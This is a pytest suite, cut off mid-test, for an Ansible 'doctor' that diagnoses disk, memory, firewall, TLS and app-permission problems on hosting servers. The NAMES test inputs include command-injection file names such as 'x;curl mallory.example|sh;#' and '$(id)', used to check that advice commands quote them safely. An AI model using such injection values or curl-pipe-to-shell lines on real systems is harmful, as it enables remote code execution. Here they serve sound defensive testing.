"""The judgements of the doctor, on what hosts really say; molecule/doctor breaks a host for the rest."""

from __future__ import annotations

import contextlib
import errno
import json
import os
import pwd
import re
import shlex
import shutil
import socket
import ssl
import subprocess
import sys
import threading
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from types import SimpleNamespace
from typing import Any

import pytest
from ansible.parsing.dataloader import DataLoader
from ansible.playbook.play_context import PlayContext
from ansible.playbook.task import Task
from ansible.template import Templar
from ansible_collections.hosted.flask.plugins.action import doctor as action
from ansible_collections.hosted.flask.plugins.action.release import PLACE_KEYS
from ansible_collections.hosted.flask.plugins.module_utils import doctor, doctor_app, findings
from ansible_collections.hosted.flask.plugins.module_utils.answers import DOCTOR, WORK, Untrue, parsed
from ansible_collections.hosted.flask.plugins.module_utils.findings import (
    ERROR,
    WARNING,
    Failed,
    Skipped,
    error,
    examine,
    output,
)
from ansible_collections.hosted.flask.plugins.module_utils.homes import DESCRIPTION, Home
from ansible_collections.hosted.flask.plugins.module_utils.homes import NAME as RELEASED
from ansible_collections.hosted.flask.plugins.module_utils.processes import Listener
from ansible_collections.hosted.flask.plugins.module_utils.programs import Refused
from ansible_collections.hosted.flask.plugins.plugin_utils.apps import NAME
from support import completed, free_port, program_states, render, supervisord, tool, until

MIB, DAY = 1 << 20, 86400
OK = ""


def level(found: list[dict[str, str]]) -> str:
    """Return the level of what was found, empty where nothing was; each has advice and is one line."""
    assert all(item["do"] and "\n" not in item["what"] for item in found)
    return found[0]["level"] if found else OK


# --- one check and the others


def test_a_check_that_fails_or_cannot_be_made_leaves_the_others_alone() -> None:
    def broken() -> list[dict[str, str]]:
        raise OSError("no such thing")

    def left_out() -> list[dict[str, str]]:
        raise Skipped("needs root")

    told = examine({"a": broken, "b": left_out, "c": lambda: [error("c", "two\nlines", "mend it")], "d": list})
    assert [(item["level"], item["check"], item["what"]) for item in told["findings"]] == [
        (WARNING, "a", "cannot be checked: OSError: no such thing"),
        (ERROR, "c", "two lines"),
    ]
    assert (told["checked"], told["skipped"]) == (["c", "d"], {"b": "needs root"})


@pytest.mark.parametrize(
    ("command", "no", "expected"),
    [
        ("echo yes", 0, "yes\n"),
        ("echo yes; echo a warning >&2", 0, "yes\n"),
        ("echo none; exit 1", 1, "none\n"),
        ("echo none; echo a warning >&2; exit 1", 1, "none\n"),
        ("exit 1", 1, ""),
        ("exit 1", 0, Failed),
        ("echo half of it; exit 100", 1, Failed),
        ("echo cannot look >&2; exit 1", 1, Failed),
    ],
)
def test_a_command_that_could_not_look_has_found_nothing_out(
    command: str, no: int, expected: str | type[Failed]
) -> None:
    if expected is Failed:
        with pytest.raises(Failed, match="sh ended with 1"):
            output("sh", "-c", command, no=no)
    else:
        assert output("sh", "-c", command, no=no) == expected
    assert output("no-such-command") == ""


def test_a_command_speaks_its_own_language_and_says_why_it_failed(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("LC_ALL", "de_DE.UTF-8")
    assert output("sh", "-c", r"echo $LC_ALL; printf '\377'") == "C.UTF-8\n\ufffd"
    told = examine({"x": lambda: [error("x", output("sh", "-c", "echo W: a; echo E: b >&2; exit 100"), "x")]})
    [found] = told["findings"]
    assert (found["level"], found["what"]) == (WARNING, "cannot be checked: Failed: sh ended with 100: E: b")
    assert told["checked"] == []


@pytest.fixture
def program(short: Path, monkeypatch: pytest.MonkeyPatch) -> Callable[[str, str], None]:
    """Let a shell script be what a program of the host is."""
    monkeypatch.setenv("PATH", f"{short}/bin:{os.environ['PATH']}")

    def put(name: str, script: str) -> None:
        (short / "bin").mkdir(exist_ok=True)
        (short / "bin" / name).write_text(f"#!/bin/sh\n{script}\n")
        (short / "bin" / name).chmod(0o755)

    return put


# --- the host


@pytest.mark.parametrize(
    ("size", "free", "names", "free_names", "expected"),
    [
        (100_000, 50_000, 1000, 900, OK),
        (100_000, 2000, 1000, 900, WARNING),
        (100_000, 100, 1000, 900, ERROR),
        (10_000, 900, 1000, 900, WARNING),
        (10_000, 400, 1000, 900, ERROR),
        (1000, 101, 1000, 900, OK),
        (100_000, 50_000, 1000, 40, WARNING),
        (100_000, 50_000, 1000, 9, ERROR),
        (100_000, 50_000, 0, 0, OK),
    ],
)
def test_room_of_a_disk(size: int, free: int, names: int, free_names: int, expected: str) -> None:
    assert level(doctor.room("/var", size * MIB, free * MIB, names, free_names)) == expected


# As Debian's quota 4.06 prints it with the options that it is called with; after its first line is a space.
QUOTAS = (
    "Disk quotas for user {}: \n"
    "     Filesystem  blocks   quota   limit   grace   files   quota   limit   grace\n"
    "{:>15} {}\n"
)
ROOM = "    100       0 20971520       0      12       0       0       0"


@pytest.mark.parametrize(
    ("place", "columns", "expected"),
    [
        ("/home", ROOM, []),
        ("/home", "20971520*      0 20971520       0    1234       0       0       0", ["error: 0 of 20480 MiB"]),
        ("/home", "20971000       0 20971520       0    1234       0       0       0", ["error: 0 of 20480 MiB"]),
        ("/", "19923000       0 20971520       0    1234       0       0       0", ["warning: 1023 of 20480 MiB"]),
        ("/srv/of a customer", "     12   20000   40000       0       5     100    1000       0", []),
        (
            "/srv/of a customer",
            "  30000*  20000   40000 1800000000     500*    100    1000 1900000000",
            ["error: 0 of 19 MiB", "error: 0 of 100 inodes"],
        ),
        ("/home", "1000000       0       0       0      96       0     100       0", ["warning: 4 of 100 inodes"]),
    ],
)
def test_quotas(place: str, columns: str, expected: list[str], program: Callable[[str, str], None]) -> None:
    """Those of two accounts, of which one has room. It ends with 1 where one is used up."""
    said = QUOTAS.format("blog (uid 1003)", place, columns) + QUOTAS.format("shop (uid 1002)", "/home", ROOM)
    asked = 'case "$*" in *" blog shop") ;; *) exit 2 ;; esac'
    program("quota", f"{asked}\ncat <<'.'\n{said}.\nexit {int('*' in columns)}")
    found = doctor.quotas({"shop": "/home/shop", "blog": "/home/blog"})
    assert [f"{item['level']}: {item['what']}" for item in found] == [
        f"{text} are free in the quota of account blog on {place}" for text in expected
    ]
    for item in found:
        assert item["check"] == "quota"
        assert "--max-depth=3 /home/blog |" in item["do"]
        assert item["do"].startswith("sudo -u blog du ")
        assert ("server_account_disk" in item["do"]) == ("MiB" in item["what"])


@pytest.mark.parametrize("installed", [True, False])
def test_quotas_are_asked_for_where_they_can_be(
    installed: bool, short: Path, program: Callable[[str, str], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Of accounts that the host has: for another one quota(1) would tell nothing of all."""
    me = pwd.getpwuid(os.geteuid()).pw_name
    program("other", "")
    if installed:
        full = QUOTAS.format(
            f"{me} (uid 7)", "/home", "20971520*      0 20971520       0    1234       0       0       0"
        )
        program("quota", f"case \"$*\" in *no-such*) exit 2 ;; esac\nprintf %s '{full}'\nexit 1")
    monkeypatch.setenv("PATH", f"{short}/bin")  # This machine may have it too.
    place = {"home": str(short), "front": "127.0.0.1:9", "router": "127.0.0.1:9", "supervisor_socket": "/s"}
    apps = [completed("shop", account=me, **place), completed("blog", account="no-such-account", **place)]
    call = {"apps": [{key: app[key] for key in PLACE_KEYS} for app in apps], "ports": [], "tls": {}, "folders": []}
    told = doctor.main({"platform": "server", **call, "who": "me", "wait": 0, "deadline": 0}, b"")["host"]
    found = [item["what"] for item in told["findings"] if item["check"] == "quota"]
    assert found == [f"0 of 20480 MiB are free in the quota of account {me} on /home"] * installed
    assert ("quota" in told["checked"]) == installed


@pytest.mark.parametrize("word", ["none", "no limited resources used"])
def test_accounts_without_quotas(word: str, program: Callable[[str, str], None]) -> None:
    program("quota", f'echo "Disk quotas for user blog (uid 1003): {word}"')
    assert doctor.quotas({"blog": "/home/blog"}) == []
    # No filesystem has any.
    program("quota", "exit 1")
    assert doctor.quotas({"blog": "/home/blog"}) == []
    program("quota", "echo quota: user blog does not exist. >&2; exit 1")
    with pytest.raises(Failed, match="does not exist"):
        doctor.quotas({"blog": "/home/blog"})


def test_a_disk_is_judged_once(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(findings, "room", lambda folder, *_: [error("disk", folder, "x")])
    found = findings.disk([str(tmp_path), str(tmp_path), "/nowhere", "/proc"])
    assert [item["what"] for item in found] == [str(tmp_path), "/proc"]


@pytest.mark.parametrize(("free", "expected"), [(1_500_000, OK), (150_000, WARNING), (40_000, ERROR)])
def test_memory(free: int, expected: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    said = f"MemTotal:        2035464 kB\nMemFree:          101 kB\nMemAvailable:   {free} kB\nHugePages_Total:   0\n"
    assert level(doctor.available(said)) == expected
    monkeypatch.setattr(doctor, "MEMINFO", tmp_path / "meminfo")
    (tmp_path / "meminfo").write_text(said)
    assert level(doctor.memory()) == expected


def test_memory_of_this_machine() -> None:
    said = re.sub(r"(?m)^(MemAvailable:).*", r"\1 0 kB", doctor.MEMINFO.read_text())
    [found] = doctor.available(said)
    assert re.fullmatch(r"0 of [1-9]\d* MiB of memory are available", found["what"])


def test_programs_that_the_kernel_killed() -> None:
    said = (
        "Out of memory: Killed process 814 (uwsgi) total-vm:1048912kB, anon-rss:812340kB, file-rss:4kB, UID:1001\n"
        "Memory cgroup out of memory: Killed process 902 (python3) total-vm:1048912kB, anon-rss:812340kB\n"
    )
    [found] = doctor.victims(said)
    assert "the kernel ended python3, uwsgi (2 times)" in found["what"]
    assert doctor.victims("") == []


def test_the_kernel_is_asked_whom_it_killed(program: Callable[[str, str], None]) -> None:
    with pytest.raises(Skipped, match="needs root"):
        doctor.killed(False)
    asked = 'case " $* " in *" --dmesg "*" --since=-1d "*) ;; *) echo "not this: $*" >&2; exit 1 ;; esac'
    killed = "echo 'Out of memory: Killed process 814 (uwsgi) total-vm:1048912kB'"
    program("journalctl", f"{asked}\necho eth0: link is up\n{killed}")
    [found] = doctor.killed(True)
    assert (found["level"], "ended uwsgi" in found["what"]) == (ERROR, True)
    program("journalctl", "echo eth0: link is up")
    assert doctor.killed(True) == []
    program("journalctl", "echo Data from the specified boot is not available >&2; exit 1")
    with pytest.raises(Failed, match="journalctl ended with 1: Data from"):
        doctor.killed(True)


def test_units() -> None:
    said = "certbot.service loaded failed failed Renew certificates\nx@y.service not-found failed failed x@y.service\n"
    assert [item["what"] for item in doctor.units(said)] == [
        "unit certbot.service has failed",
        "unit x@y.service has failed",
    ]
    assert doctor.units("\n") == []


@pytest.mark.parametrize(
    ("said", "what"),
    [
        ("NTP=yes\nNTPSynchronized=yes\nTimeUSec=Sat\n", None),
        ("NTP=no\nNTPSynchronized=no\n", "the clock is not synchronised, nothing looks after it"),
        ("NTP=yes\nNTPSynchronized=no\n", "the clock is not synchronised yet"),
        ("", None),
    ],
)
def test_clock(said: str, what: str | None) -> None:
    assert [item["what"] for item in doctor.kept(said)] == [what] * bool(what)


def test_the_clock_is_asked_for_where_the_host_has_one(program: Callable[[str, str], None]) -> None:
    program("timedatectl", "[ $1 = show ] && printf 'NTP=no\\nNTPSynchronized=no\\n'")
    program("systemd-detect-virt", "echo podman")
    with pytest.raises(Skipped, match="a container"):
        doctor.clock()
    program("systemd-detect-virt", "echo none; exit 1")
    assert [item["what"] for item in doctor.clock()] == ["the clock is not synchronised, nothing looks after it"]
    program("timedatectl", "echo Failed to connect to bus >&2; exit 1")
    with pytest.raises(Failed, match="connect to bus"):
        doctor.clock()


def test_security_updates_are_told_from_others() -> None:
    said = (
        "Inst base-files [12.4] (12.4+deb12u11 Debian:12.11/stable [amd64])\n"
        "Inst libssl3 [3.0.15-1] (3.0.16-1 Debian-Security:12/stable-security [amd64])\n"
        "Inst openssl [3.0.15-1] (3.0.16-1 Debian:12.11/stable, Debian-Security:12/stable-security [amd64])\n"
        "Conf libssl3 (3.0.16-1 Debian-Security:12/stable-security [amd64])\n"
    )
    assert doctor.security(said) == ["libssl3", "openssl"]


@pytest.mark.parametrize(("depends", "stuck"), [("", False), ("Depends: nowhere\n", True)])
def test_updates_that_apt_cannot_install(
    depends: str, stuck: bool, short: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The apt of this machine, with a list of packages that were installed somewhere else."""
    short.chmod(0o755)
    (short / "status").write_text(
        "Package: needy\nStatus: install ok installed\nMaintainer: x <x@example.org>\nArchitecture: all\nVersion: 1\n"
        f"{depends}Description: x\n\n"
    )
    places = {"State::status": "status", "State::lists": "lists", "Cache": "cache"}
    lines = [f'Dir::{key} "{short}/{name}";' for key, name in places.items()]
    lines += [f'Dir::Etc::{key} "{short}/none";' for key in ("sourcelist", "sourceparts")]
    (short / "apt.conf").write_text("\n".join(lines))
    monkeypatch.setenv("APT_CONFIG", str(short / "apt.conf"))
    tool("apt-get")
    found = [item for item in doctor.updates() if "apt-get ended" in item["what"]]
    assert level(found) == (WARNING if stuck else OK)
    for item in found:
        assert item["what"].startswith("no update can be installed: apt-get ended with 100: E: Unmet dependencies.")
        assert "--fix-broken install" in item["do"]


def test_the_hosts_addresses(program: Callable[[str, str], None]) -> None:
    program("ip", """echo '[{"addr_info": [{"local": "192.0.2.1"}, {}]}, {}]'""")
    assert doctor.addresses() == ["192.0.2.1"]
    for script in ("exit 1", ":"):
        program("ip", script)
        assert doctor.addresses() == []


@pytest.mark.parametrize("root", [True, False])
def test_who_hides_from_root_is_somebody_unknown(root: bool, monkeypatch: pytest.MonkeyPatch) -> None:
    """Without root's rights most processes cannot be seen."""
    monkeypatch.setattr(doctor, "listeners", lambda _: {443: [Listener(0, 1003, "")]})
    found = [item["what"] for item in doctor.ports([443], "nginx", root)]
    assert found == ["a process that cannot be seen, of uid 1003, listens on port 443 instead of nginx"] * root


def test_a_disk_that_cannot_be_looked_at_keeps_no_other_one_waiting(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """As a home is in which its account has mounted what does not answer any more."""
    stat = os.stat

    def broken(path: Any, *more: Any, **options: Any) -> os.stat_result:
        if str(path) == "/home/shop":
            raise OSError(errno.ENOTCONN, "Transport endpoint is not connected")
        return stat(path, *more, **options)

    monkeypatch.setattr(findings.os, "stat", broken)
    monkeypatch.setattr(findings, "room", lambda folder, *_: [error("disk", folder, "x")])
    found = findings.disk(["/home/shop", tmp_path])
    assert [item["what"] for item in found] == [
        "/home/shop cannot be looked at: Transport endpoint is not connected",
        str(tmp_path),
    ]


def test_who_listens_on_a_port() -> None:
    me = Path(os.readlink("/proc/self/exe")).name
    with socket.create_server(("127.0.0.1", 0)) as server, socket.create_server(("::1", 0), family=10) as other:
        own, six = server.getsockname()[1], other.getsockname()[1]
        assert doctor.ports([own, six], me, False) == []
        [found] = doctor.ports([own], "nginx", False)
        assert f"/{me}, uid {os.getuid()}) listens on port {own} instead of nginx" in found["what"]
    [found] = doctor.ports([own], me, False)
    assert found["what"] == f"nobody listens on port {own}"


@pytest.mark.parametrize(
    ("tables", "expected"),
    [
        ("table ip nat\ntable inet hosted_flask\n", OK),
        ("table ip nat\ntable inet hosted_flask_old\n", ERROR),
        ("", ERROR),
    ],
)
def test_firewall(tables: str, expected: str, program: Callable[[str, str], None]) -> None:
    program("nft", f'[ "$*" = "list tables" ] && printf "{tables}"')
    assert level(doctor.firewall(True)) == expected
    program("nft", "echo 'netlink: Error: cache initialization failed' >&2; exit 1")
    with pytest.raises(Failed, match="nft ended with 1: netlink"):
        doctor.firewall(True)
    with pytest.raises(Skipped, match="needs root"):
        doctor.firewall(False)


@pytest.mark.parametrize("there", [True, False])
def test_firewall_of_a_host_that_has_it(
    there: bool, short: Path, program: Callable[[str, str], None], monkeypatch: pytest.MonkeyPatch
) -> None:
    program("nft", "exit 0")
    monkeypatch.setenv("PATH", f"{short}/bin")
    monkeypatch.setattr(doctor, "FIREWALL", short if there else short / "none")
    told = doctor.main({"platform": "server", "apps": [], "ports": [], "tls": {}, "folders": []}, b"")["host"]
    assert ("firewall" in [*told["checked"], *told["skipped"]]) == there
    found = [item["what"] for item in told["findings"] if item["check"] == "firewall"]
    assert found == [f"the firewall is off: the rules of {short} are not loaded"] * (there and os.geteuid() == 0)


# --- certificates


@pytest.fixture(scope="module")
def made(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    """Return a certificate for shop.example and *.shop.example of 90 days, and its key."""
    folder = tmp_path_factory.mktemp("made")
    certificate, key = folder / "fullchain.pem", folder / "privkey.pem"
    words = ["-x509", "-newkey", "ec", "-pkeyopt", "ec_paramgen_curve:P-256", "-nodes", "-days", "90", "-subj", "/"]
    names = "subjectAltName=DNS:shop.example,DNS:*.shop.example"
    subprocess.run(
        [tool("openssl"), "req", *words, "-addext", names, "-keyout", key, "-out", certificate],
        check=True,
        capture_output=True,
    )
    return certificate, key


@pytest.fixture
def front(made: tuple[Path, Path]) -> Iterator[int]:
    """Show the certificate on a port, as a front does."""
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    context.load_cert_chain(*made)
    with socket.create_server(("127.0.0.1", 0)) as server:

        def serve() -> None:
            while True:
                try:
                    client, _ = server.accept()
                except OSError:
                    return
                with client:
                    try:
                        context.wrap_socket(client, server_side=True).close()
                    except OSError:
                        pass

        threading.Thread(target=serve, daemon=True).start()
        yield server.getsockname()[1]
        server.shutdown(socket.SHUT_RDWR)


@pytest.mark.parametrize(
    ("domain", "mode", "days", "expected", "what"),
    [
        ("shop.example", "acme", 0, OK, ""),
        ("www.shop.example", "acme", 0, OK, ""),
        ("_", "self_signed", 0, OK, ""),
        ("blog.example", "own", 0, ERROR, "not for this name"),
        ("shop.example", "acme", 65, OK, ""),
        ("shop.example", "acme", 75, WARNING, "expires in 15 days"),
        ("shop.example", "own", 75, WARNING, "expires in 15 days"),
        ("shop.example", "own", 70, OK, ""),
        ("shop.example", "acme", 85, ERROR, "expires in 5 days"),
        ("shop.example", "acme", 95, ERROR, "expired 5 days ago"),
        ("shop.example", "acme", -3, ERROR, "not valid yet"),
    ],
)
def test_certificate(made: tuple[Path, Path], domain: str, mode: str, days: int, expected: str, what: str) -> None:
    found = doctor.valid(domain, mode, made[0].read_text(), time.time() + days * DAY, "renew it")
    assert level(found) == expected
    assert not what or what in found[0]["what"]


def test_certificate_that_the_front_shows(
    made: tuple[Path, Path], front: int, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The one of the files, another one, a placeholder that was never replaced, and none."""
    monkeypatch.setattr(doctor, "TLS", tmp_path / "tls")
    monkeypatch.setattr(doctor, "PENDING", tmp_path / "pending")
    modes, now = {"shop.example": "acme"}, time.time()

    def said(port: int = front) -> list[str]:
        return [f"{item['level']}: {item['what']}" for item in doctor.certificates(modes, port, now)]

    assert said() == []
    file = tmp_path / "tls/shop.example/fullchain.pem"
    file.parent.mkdir(parents=True)
    shutil.copy(made[0], file)
    file.write_text(f"a comment\n{file.read_text()}{file.read_text()}")
    assert said() == []
    body = ssl.PEM_cert_to_DER_cert(made[0].read_text())
    file.write_text(ssl.DER_cert_to_PEM_cert(body[:-1] + b"x"))
    assert said() == [f"error: shop.example: the front shows another certificate than {file}"]
    (tmp_path / "pending/shop.example").mkdir(parents=True)
    assert said() == ["error: shop.example: it was never issued, visitors get a placeholder"]
    [nothing] = said(free_port())
    assert nothing.startswith("error: shop.example: no certificate is shown on port")


# --- an app

URLS = {
    "postgresql://u:hush@db.example/shop": ["db.example:5432"],
    "postgresql+psycopg://u:hush@db.example:5433/shop?sslmode=require": ["db.example:5433"],
    "postgres:///shop": ["/var/run/postgresql/.s.PGSQL.5432"],
    "postgresql://u:hush@/shop?host=/run/pg&port=5444": ["/run/pg/.s.PGSQL.5444"],
    "postgresql://u:hush@%2Frun%2Fpg/shop": ["/run/pg/.s.PGSQL.5432"],
    "mysql+pymysql://u:hush@db.example/shop": ["db.example:3306"],
    "mariadb://u:hush@localhost/shop?unix_socket=/run/mysqld/mysqld.sock": ["/run/mysqld/mysqld.sock"],
    "redis://:hush@[::1]:6380/0": ["[::1]:6380"],
    "redis://": ["localhost:6379"],
    "rediss://u:hush@r.example": ["r.example:6379"],
    "unix://:hush@/run/redis.sock?db=1": ["/run/redis.sock"],
    "redis+socket:///run/redis.sock": ["/run/redis.sock"],
    "amqp://u:hush@mq.example//": ["mq.example:5672"],
    "mongodb://u:hush@a.example:1,b.example/shop": ["a.example:1", "b.example:27017"],
    "db+postgresql://u:hush@db.example/shop": ["db.example:5432"],
    "https://u:hush@example.org/": [],
    "sqlite:///instance/app.db": [],
    "Hello": [],
    "redis hush": [],
}


@pytest.mark.parametrize(("value", "expected"), URLS.items(), ids=URLS)
def test_where_a_setting_makes_the_app_connect_to(value: str, expected: list[str]) -> None:
    assert doctor_app.addresses(value) == expected
    assert "hush" not in str(expected)


def test_connections(short: Path) -> None:
    with socket.create_server(("127.0.0.1", 0)) as server, socket.socket(socket.AF_UNIX) as local:
        local.bind(str(short / "s"))
        local.listen()
        port = server.getsockname()[1]
        assert doctor_app.refused(f"127.0.0.1:{port}") == ""
        assert doctor_app.refused(str(short / "s")) == ""
    assert doctor_app.refused(f"127.0.0.1:{port}") == "Connection refused"
    assert doctor_app.refused(str(short / "gone")) == "No such file or directory"


def test_settings_that_name_places(short: Path) -> None:
    """What cannot be read is told by its name; one place is told once, with all who name it."""
    home = Home(completed("shop", home=str(short), supervisor_socket="/s", front="127.0.0.1:80"))
    (home.slots / "live/.hosted").mkdir(parents=True)
    port = free_port()
    (home.root / "env").write_text("# by hand\nSECRET_KEY='a b'\nexport BAD_URL=redis://:hush@host:port\nODD='\n")
    (home.slots / "live/.hosted/env").write_text(
        f"A_URL=redis://:hush@127.0.0.1:{port}/0\nB_URL='redis://:hush@127.0.0.1:{port}/1'\nTEXT='a\nb'\n"
    )
    wrong, away = doctor_app.connections(home)
    assert (wrong["level"], away["level"]) == (WARNING, ERROR)
    assert wrong["what"].startswith("BAD_URL is no URL")
    assert away["what"] == f"127.0.0.1:{port} (A_URL, B_URL) cannot be reached: Connection refused"
    assert "hush" not in f"{wrong}{away}"


def test_ends_within_the_last_hour_are_counted() -> None:
    now = time.time()

    def line(name: str, ago: float, how: str) -> str:
        when = time.strftime("%Y-%m-%d %H:%M:%S", time.localtime(now - ago))
        return f"{when},123 WARN exited: {name} ({how}; not expected)\n"

    home = Home(completed(services=[{"name": "mail"}], supervisor_socket="/s", front="127.0.0.1:80"))
    crash, kill = "exit status 1", "terminated by SIGKILL"
    log = "".join(line("shop-mail", ago, crash) for ago in (3000, 2000)) + line("shop-mail", 10, kill)
    log += "".join(line("shop", ago, crash) for ago in (9000, 2000, 10))
    log += "".join(line(name, 5, crash) * 3 for name in ("shop-standby", "shopping"))
    [found] = doctor_app.ends(home, log, now)
    assert (
        "program shop-mail ended 3 times within the last hour, the last time with terminated by SIGKILL"
        in found["what"]
    )


def test_what_keeps_an_account_from_a_socket(short: Path) -> None:
    short.chmod(0o755)
    folder, path = short / "run", short / "run/live.sock"
    folder.mkdir(mode=0o755)
    path.touch()
    for modes, expected in (((0o755, 0o666), None), ((0o755, 0o664), path), ((0o750, 0o666), folder)):
        folder.chmod(modes[0])
        path.chmod(modes[1])
        assert doctor_app.unreachable(path, "nobody") == expected


@pytest.fixture
def server(short: Path, monkeypatch: pytest.MonkeyPatch) -> Home:
    """Return an app of this account, which is the front's too, with the files that it has on a server."""
    me = pwd.getpwuid(os.geteuid()).pw_name
    monkeypatch.setattr(doctor_app, "FRONT", me)
    control = str(short / "run/supervisor.sock")
    services = [{"name": "mail"}]
    home = Home(completed(home=str(short), account=me, services=services, supervisor_socket=control, front=""))
    hosted, data, built = home.releases / "1/.hosted", home.root / "data", home.root / "venvs/1"
    for folder, rights in ((home.root, 0o710), (data, 0o700), (home.run, 0o710), (hosted, 0o750), (home.slots, 0o750)):
        folder.mkdir(parents=True, exist_ok=True)
        folder.chmod(rights)
    for folder in (home.ini.parent, home.home / "logs"):
        folder.mkdir(parents=True)
    for file in (home.root / "env", hosted / "env", home.ini):
        file.touch(0o600)
    subprocess.run([sys.executable, "-m", "venv", "--without-pip", built], check=True)
    (built / ".complete").touch()
    for link, target in {
        home.slots / "live": "../releases/1",
        home.run / "current.sock": "live.sock",
        hosted / "venv": built,
        home.root / "python": sys.executable,
    }.items():
        link.symlink_to(target)
    with socket.socket(socket.AF_UNIX) as held:
        held.bind(str(home.run / "live.sock"))
    (home.run / "live.sock").chmod(0o660)
    return home


# What is done to it in its root, the check that sees it, what that finds, and the advice.
HARMS = {
    "nothing that the front asks": (
        "rm run/current.sock", doctor_app.left_overs, ERROR, "run/current.sock, which the front asks, is missing",
        "bin/deploy -e app=shop",
    ),
    "visitors somewhere else": (
        "ln -sfn other.sock run/current.sock", doctor_app.left_overs, ERROR,
        "visitors get other.sock instead of live.sock", "bin/deploy -e app=shop",
    ),
    "visitors on the standby": (
        "ln -sfn standby.sock run/current.sock", doctor_app.left_overs, WARNING,
        "visitors get standby.sock instead of live.sock", "bin/deploy -e app=shop",
    ),
    "the holder's interpreter is gone": (
        "ln -sfn /nowhere/python3 python", doctor_app.venv, ERROR,
        "{root}/python, which is to run shop-socket, has lost its interpreter", "bin/deploy -e app=shop",
    ),
    "the venv's interpreter is gone": (
        "ln -sfn /nowhere/python3 venvs/1/bin/python", doctor_app.venv, ERROR,
        "venv 1 has lost its interpreter /nowhere/python3;", "bin/deploy -e app=shop",
    ),
    "the venv's interpreter was taken out": (
        "rm venvs/1/bin/python", doctor_app.venv, ERROR,
        "venv 1 has lost its interpreter {root}/venvs/1/bin/python;", "bin/deploy -e app=shop",
    ),
    "an interpreter that does not run": (
        "cd venvs/1/bin; rm python; printf '#!/bin/sh\\necho no encodings >&2; exit 1\\n' > python; chmod 755 python",
        doctor_app.venv, ERROR, "the interpreter of venv 1 does not run: no encodings", "bin/deploy -e app=shop",
    ),
    "an interpreter of another version": (
        "sed -i 's/^version.*/version = 3.4.5/' venvs/1/pyvenv.cfg", doctor_app.venv, ERROR,
        "venv 1 was built with Python 3.4.5, its interpreter is 3.", "bin/deploy -e app=shop",
    ),
    "the app's own settings are open": (
        "chmod 604 env", doctor_app.permissions, ERROR, "{root}/env is open to others (0604)",
        "chmod go= -- {root}/env",
    ),
    "the release's settings are open": (
        "chmod 640 slots/live/.hosted/env", doctor_app.permissions, ERROR,
        "{root}/slots/live/.hosted/env is open to others (0640)", "chmod go= -- {root}/slots/live/.hosted/env",
    ),
    "the home is open": (
        "chmod 701 ../..", doctor_app.permissions, ERROR, "{home} is open to other accounts (0701)",
        "chmod o= -- {home}",
    ),
    "the root is open": (
        "chmod 711 .", doctor_app.permissions, ERROR, "{root} is open to other accounts (0711)", "chmod o= -- {root}",
    ),
    "the data are open": (
        "chmod 750 data", doctor_app.permissions, ERROR, "{root}/data is open to other accounts (0750)",
        "chmod go= -- {root}/data",
    ),
    "the sockets are open": (
        "chmod 711 run", doctor_app.permissions, ERROR, "{root}/run is open to other accounts (0711)",
        "chmod o= -- {root}/run",
    ),
    "the socket is open": (
        "chmod 666 run/live.sock", doctor_app.permissions, ERROR, "{root}/run/live.sock is open to every account",
        "chmod 0660 -- {root}/run/live.sock",
    ),
    "the socket is gone": (
        "rm run/live.sock", doctor_app.permissions, ERROR, "{root}/run/live.sock is missing",
        "supervisorctl restart shop-socket shop",
    ),
}  # fmt: skip


@pytest.mark.parametrize(("harm", "check", "weight", "what", "do"), HARMS.values(), ids=HARMS)
def test_what_is_wrong_with_an_apps_files(
    harm: str, check: Callable[[Home], list[dict[str, str]]], weight: str, what: str, do: str, server: Home
) -> None:
    """Nothing is found before, one thing then; where a command is advised for the rights of a file, it mends that."""
    checks = [doctor_app.left_overs, doctor_app.venv, doctor_app.permissions]
    assert [found for one in checks for found in one(server)] == []
    subprocess.run(["sh", "-ec", harm], cwd=server.root, check=True)
    [found] = [found for one in checks for found in one(server)]
    assert check(server) == [found]
    assert level([found]) == weight
    assert found["what"].startswith(what.format(root=server.root, home=server.home))
    assert found["do"].endswith(do.format(root=server.root, home=server.home))
    as_the_account = f"sudo -u {server.app['account']} "
    if check is doctor_app.permissions and "supervisorctl" not in found["do"]:
        assert found["do"].startswith(as_the_account)
        # Who runs the tests is the account.
        subprocess.run(["sh", "-ec", found["do"].removeprefix(as_the_account)], check=True)
        assert check(server) == []


# What an account may call a file or a program.
NAMES = ("x;curl mallory.example|sh;#", "$(id)", "`id`", "-rf", "a b", "it's", '"', "*", "~root", "&& id", "\\", "ü")
# No command of one line can have these in it as they are.
UNPLAIN = ("x\ny", "two  blanks", "end ", "\x1b[2J", "\u2028", "\x85", "\x0b", "\u202e")


def commands(finding: dict[str, str]) -> list[list[str]]:
    """Return the commands of an advice, each as the words that a shell makes of it."""
    start = re.search(r"(sudo|chmod|chown|rm|mv|cp|du) -|supervisorctl", finding["do"])
    found: list[list[str]] = [[]]
    for word in shlex.split(finding["do"][start.start() :] if start else "", comments=True):
        if word in ("&&", "|", "||", ";"):
            found.append([])
        else:
            found[-1].append(word)
    return found if start else []


def harmless(finding: dict[str, str], home: Home) -> None:
    """Demand that an advice is one line, and that root does nothing by it to what an account may have made."""
    account, own = home.app["account"], (str(home.home), home.programs.socket)
    assert finding["do"]
    assert finding["do"].splitlines() == [finding["do"]]
    for words in commands(finding):
        if words[0] in ("sort", "tail"):
            continue
        assert words[0] == "sudo"
        assert words[1:3] in (["-u", account], ["-iu", account])
        assert words[3] in ("chmod", "mv", "cp", "rm", "du", "supervisorctl")
        assert all(word.startswith(own) for word in words[4:] if word.startswith("/")), words


@pytest.mark.skipif(os.geteuid() != 0, reason="gives files away")
@pytest.mark.parametrize("name", [*NAMES, *UNPLAIN], ids=ascii)
def test_a_file_of_somebody_else_is_one_word_of_a_command_of_its_account(name: str, server: Home) -> None:
    path = server.root / "data" / name
    path.write_text("")
    os.chown(path, 65534, 65534)
    [found] = doctor_app.permissions(server)
    harmless(found, server)
    assert findings.line(str(path)) in found["what"]
    said = [words[4:] for words in commands(found)]
    if name in UNPLAIN:
